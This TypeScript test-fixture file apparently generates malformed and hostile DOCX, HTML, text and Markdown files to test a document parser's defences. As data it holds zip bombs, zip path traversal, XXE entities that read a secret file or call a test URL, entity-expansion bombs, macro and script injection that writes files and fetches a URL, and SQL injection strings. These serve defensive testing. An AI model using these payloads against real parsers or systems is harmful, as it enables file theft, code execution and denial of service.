/** DOCX, HTML and text files that are broken, locked, empty, or made to harm their reader. */
import type { HostileDocument, HostileWorld } from './hostile-types.ts'
import { bodyXml, docx, docxParts, paragraph, rawBomb, relations, zipOf } from './raw-files.ts'

type Cases = Readonly<Record<string, Omit<HostileDocument, 'source'>>>

export function hostileTexts(world: HostileWorld): readonly HostileDocument[] {
  return [
    ...named(docxCases(world), 'docx'),
    ...named(htmlCases(world), 'html'),
    ...named(textCases(), 'txt'),
    ...named(markdownCases(), 'md'),
  ]
}

function named(cases: Cases, extension: string): readonly HostileDocument[] {
  return Object.entries(cases).map(([name, each]) => ({ source: `${name}.${extension}`, ...each }))
}

const HELLO = paragraph('Hello from the document')

function docxCases({ url, secretFile }: HostileWorld): Cases {
  const parts = docxParts(bodyXml(HELLO))
  const link = ' TargetMode="External"'
  const image =
    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="r1"/></w:drawing></w:r></w:p>'
  return {
    empty: { bytes: () => '', codes: ['no-text'] },
    'no zip': { bytes: () => 'PK but nothing else', codes: ['malformed'] },
    'an empty zip': { bytes: () => zipOf([]), codes: ['malformed'] },
    'no document in it': { bytes: () => zipOf(parts.slice(0, 2)), codes: ['malformed'] },
    'no list of parts': { bytes: () => zipOf(parts.slice(1)), codes: ['malformed'] },
    'no text': { bytes: () => docx(''), codes: ['no-text'] },
    'a password': {
      bytes: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]),
      codes: ['encrypted'],
    },
    'encrypted parts': {
      bytes: () => zipOf(parts.map((part) => ({ ...part, flags: 1 }))),
      codes: ['encrypted'],
    },
    'cut in half': { bytes: () => zipOf(parts).subarray(0, 300), codes: ['malformed'] },
    'an index that points behind the end': {
      bytes: () => {
        const zip = zipOf(parts)
        zip.writeUInt32LE(0x7fffffff, zip.length - 6)
        return zip
      },
      codes: ['malformed'],
    },
    'broken compression': {
      bytes: () => zipOf(parts.map((part) => ({ ...part, packed: Buffer.alloc(64, 0xff) }))),
      codes: ['malformed'],
    },
    'a bomb': {
      bytes: () =>
        zipOf([
          ...parts.slice(0, 2),
          {
            name: 'word/document.xml',
            content: '',
            packed: rawBomb(1024),
          },
        ]),
      codes: ['too-large'],
    },
    'a bomb that is no text': {
      bytes: () => zipOf([...parts, { name: 'word/media/a.png', content: '', packed: rawBomb(256) }]),
      codes: ['read'],
    },
    'a hundred styles of 2 MB': {
      bytes: () => {
        const packed = rawBomb(2)
        return zipOf([
          ...parts,
          ...Array.from({ length: 100 }, (_, at) => ({ name: `word/styles${at}.xml`, content: '', packed })),
        ])
      },
      codes: ['too-large'],
    },
    '20,000 parts': {
      isSlow: true,
      bytes: () =>
        zipOf([
          ...parts,
          ...Array.from({ length: 20_000 }, (_, at) => ({ name: `word/x${at}.bin`, content: '' })),
        ]),
      codes: ['too-large'],
    },
    'paths out of the zip': {
      bytes: () => zipOf([...parts, { name: '../../../../tmp/escaped.xml', content: 'x' }]),
      codes: ['read'],
    },
    'the same part twice': {
      bytes: () =>
        zipOf([...parts, { name: 'word/document.xml', content: bodyXml(paragraph('Another text')) }]),
      codes: ['read'],
    },
    'XML that is none': { bytes: () => zipOf(docxParts('<<<>>>')), codes: ['malformed', 'no-text'] },
    'XML that is not closed': {
      bytes: () => zipOf(docxParts(bodyXml(HELLO).slice(0, -30))),
      codes: ['malformed', 'read', 'no-text'],
    },
    'entities that double': {
      bytes: () =>
        docx(
          paragraph('&e;'),
          `<!DOCTYPE x [<!ENTITY a "ha ha ha ha"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}"><!ENTITY d "${'&c;'.repeat(100)}"><!ENTITY e "${'&d;'.repeat(100)}">]>`,
        ),
      codes: ['malformed', 'read', 'no-text'],
    },
    'an entity of a file': {
      bytes: () => docx(paragraph('Hello &e;'), `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secretFile}">]>`),
      codes: ['malformed', 'read'],
    },
    'an entity at an address': {
      bytes: () =>
        docx(
          paragraph('Hello &e;'),
          `<!DOCTYPE x SYSTEM "${url}/dtd" [<!ENTITY % p SYSTEM "${url}/p"> %p;<!ENTITY e SYSTEM "${url}/e">]>`,
        ),
      codes: ['malformed', 'read'],
    },
    'elements 100,000 levels deep': {
      bytes: () => docx(`${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`),
      codes: ['too-complex', 'malformed', 'no-text'],
    },
    'two million paragraphs': {
      isSlow: true,
      bytes: () => docx(paragraph('x').repeat(2_000_000)),
      codes: ['too-large', 'too-complex'],
    },
    'an image at an address': {
      bytes: () =>
        zipOf([
          ...docxParts(bodyXml(HELLO + image)),
          { name: 'word/_rels/document.xml.rels', content: relations('image', `${url}/image`, link) },
        ]),
      codes: ['read'],
    },
    'an image that is a file of ours': {
      bytes: () =>
        zipOf([
          ...docxParts(bodyXml(HELLO + image)),
          { name: 'word/_rels/document.xml.rels', content: relations('image', `file://${secretFile}`, link) },
        ]),
      codes: ['read'],
    },
    'a template at an address': {
      bytes: () =>
        zipOf([
          ...parts,
          {
            name: 'word/_rels/settings.xml.rels',
            content: relations('attachedTemplate', `${url}/template`, link),
          },
        ]),
      codes: ['read'],
    },
    macros: {
      bytes: () => zipOf([...parts, { name: 'word/vbaProject.bin', content: 'Shell("touch")' }]),
      codes: ['read'],
    },
  }
}

function htmlCases({ url, secretFile }: HostileWorld): Cases {
  const write = `process.getBuiltinModule('fs').writeFileSync('${secretFile}.ran','');fetch('${url}/script');globalThis.owned=true`
  return {
    empty: { bytes: () => '', codes: ['no-text'] },
    'a script alone': { bytes: () => `<script>${write}</script>`, codes: ['no-text'] },
    'scripts of every kind': {
      bytes: () =>
        `<body onload="${write}"><p>Hello from the page</p><img src=x onerror="${write}"><svg><script>${write}</script></svg><script type=module>${write}</script><a href="javascript:${write}">Go</a><iframe srcdoc="<script>${write}</script>"></iframe><object data="data:text/html,<script>${write}</script>"></object>`,
      codes: ['read'],
    },
    'an element of its own': {
      bytes: () =>
        `<script>customElements.define('x-y', class extends HTMLElement { connectedCallback() { ${write} } })</script><x-y>Hello from the page</x-y>`,
      codes: ['read'],
    },
    'references everywhere': {
      bytes: () =>
        `<base href="${url}/"><link rel=stylesheet href="a.css"><style>@import "${url}/b.css"; p { background: url(${url}/c) }</style><meta http-equiv=refresh content="0;url=${url}/d"><p>Hello from the page<img src="e.png" srcset="f.png 2x"><video src=g poster=h></video><iframe src="i"></iframe><object data=j></object><embed src=k><script src=l></script><form action=m></form><link rel=prefetch href=n>`,
      codes: ['read'],
    },
    'a file of ours': {
      bytes: () =>
        `<p>Hello</p><iframe src="file://${secretFile}"></iframe><embed src="file://${secretFile}">`,
      codes: ['read'],
    },
    'an entity of a file': {
      bytes: () => `<!DOCTYPE html [<!ENTITY e SYSTEM "file://${secretFile}">]><p>Hello &e;`,
      codes: ['read', 'no-text'],
    },
    '20,000 levels deep': {
      isSlow: true,
      bytes: () => `${'<div>'.repeat(20_000)}Hello from below`,
      codes: ['read', 'too-complex', 'too-slow'],
    },
    '300,000 levels deep': {
      bytes: () => `${'<b>'.repeat(300_000)}Hello`,
      codes: ['read', 'too-complex', 'too-slow'],
      isSlow: true,
    },
    'tables in tables': {
      isSlow: true,
      bytes: () => `${'<table><tr><td>'.repeat(10_000)}Hello from below`,
      codes: ['read', 'too-complex', 'too-slow'],
    },
    'three million elements': {
      bytes: () => '<p>x'.repeat(3_000_000),
      codes: ['too-complex', 'read', 'too-slow'],
      isSlow: true,
    },
    '100,000 attributes': {
      isSlow: true,
      bytes: () => `<p ${Array.from({ length: 100_000 }, (_, at) => `a${at}=1`).join(' ')}>Hello`,
      codes: ['read', 'too-complex', 'too-slow'],
    },
    'an attribute of 20 MB': {
      isSlow: true,
      bytes: () => `<p title="${'x'.repeat(20_000_000)}">Hello`,
      codes: ['read', 'too-complex'],
    },
    'comments that never end': { bytes: () => `<p>Hello${'<!--'.repeat(200_000)}`, codes: ['read'] },
    'brackets that never end': {
      bytes: () => `<p>Hello ${'<'.repeat(500_000)}`,
      codes: ['read', 'no-text', 'too-slow', 'too-complex'],
      isSlow: true,
    },
    'entities without end': {
      isSlow: true,
      bytes: () => `<p>${'&amp'.repeat(500_000)}`,
      codes: ['read', 'too-complex'],
    },
    'a hidden page': {
      bytes: () => '<div hidden><p>Hello</div><p style="display: none">Hello',
      codes: ['no-text'],
    },
    'zero bytes': { bytes: () => '<p>Hello\0there', codes: ['malformed'] },
    'no UTF-8': { bytes: () => Buffer.from('<p>caf\u00E9 au lait', 'latin1'), codes: ['read'] },
    'a character set that is none': {
      bytes: () => Buffer.from('<meta charset="\u00FFevil-9"><p>caf\u00E9', 'latin1'),
      codes: ['read'],
    },
    'UTF-16': { bytes: () => Buffer.from('\uFEFF<p>Hello in UTF-16', 'utf16le'), codes: ['read'] },
    'a PDF with a wrong name': { bytes: () => Buffer.from('%PDF-1.7\n\0\0\0binary'), codes: ['malformed'] },
  }
}

function textCases(): Cases {
  return {
    empty: { bytes: () => '', codes: ['no-text'] },
    spaces: { bytes: () => ' \n\t\u00A0\u200B\n'.repeat(1000), codes: ['no-text'] },
    binary: { bytes: () => Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0, 1]), codes: ['malformed'] },
    'over the limit': { bytes: () => Buffer.alloc(9_000_000, 'Hello. '), codes: ['too-large'] },
    'one line of 1 MB': { bytes: () => 'x'.repeat(1_000_000), codes: ['read'] },
    'half of a character': {
      bytes: () => Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x48, 0x00]),
      codes: ['read'],
    },
    'codes for a terminal': { bytes: () => 'Hello \u001B[2J\u001B]0;owned\u0007 there', codes: ['read'] },
    'text that runs backwards': { bytes: () => 'Hello \u202Eereht', codes: ['read'] },
    'marks without a letter': { bytes: () => `Hello ${'\u0301'.repeat(50_000)}`, codes: ['read'] },
    'no UTF-8': { bytes: () => Buffer.from([0x48, 0x65, 0xc3, 0x28, 0xff]), codes: ['read'] },
    'syntax of queries': { bytes: () => `"'); DROP TABLE passage; -- NEAR( * `.repeat(500), codes: ['read'] },
    '4 MB of blanks in a line': { bytes: () => `a${' '.repeat(4_000_000)}b`, codes: ['read'] },
    '100,000 line ends': { bytes: () => `a${'\n'.repeat(100_000)}b`, codes: ['read'] },
  }
}

function markdownCases(): Cases {
  return {
    '4 MB of blanks in a heading': { bytes: () => `# a${' '.repeat(4_000_000)}b`, codes: ['read'] },
    '4 MB of blanks in a title': {
      bytes: () => `---\ntitle: a${' '.repeat(4_000_000)}b\n---\ntext`,
      codes: ['read'],
    },
  }
}
